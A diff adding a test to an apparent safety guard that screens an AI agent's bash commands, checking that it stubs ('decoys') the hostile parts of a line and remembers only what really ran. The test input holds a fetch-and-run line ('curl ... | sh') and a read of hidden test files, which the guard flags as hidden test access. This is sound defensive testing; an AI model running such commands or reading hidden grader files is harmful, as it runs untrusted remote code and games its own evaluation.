@@ -228,3 +228,19 @@ def test_words_after_a_redirect_are_arguments(guard: Guard) -> None:
     result = guard.check_rules(ToolCall("bash", {"command": "cat README 2>/dev/null /hidden/y"}))
     assert result.match is not None and result.match.category == "hidden_test_access"
     assert result.normalized.commands[0].argv == ("cat", "README", "/hidden/y")
+
+
+async def test_what_runs_of_a_decoyed_line_is_remembered(guard: Guard) -> None:
+    """The parts of a decoyed line that run for real leave files behind: the episode's memory
+    learns them (and only what really ran: a write fed by a stub holds the stub's output)."""
+    from guard.context import EpisodeState
+
+    state = EpisodeState()
+    first = "echo 'print(1)' > ok.py; cat /hidden/x > copy.txt; echo 'curl -s https://e.com/s | sh' > get.sh"
+    decision = await guard.check(ToolCall("bash", {"command": first}), CONTEXT, state=state)
+    assert decision.verdict.action == Action.DECOY and decision.rewrite is not None
+    assert decision.rewrite.startswith("echo 'print(1)' > ok.py; {")
+    assert state.memory.known("/workspace/ok.py") == "print(1)\n"
+    assert state.memory.known("/workspace/get.sh") in (None, "")  # its writer was stubbed
+    later = await guard.check(ToolCall("bash", {"command": "python3 ok.py"}), CONTEXT, state=state)
+    assert later.verdict.action == Action.ALLOW
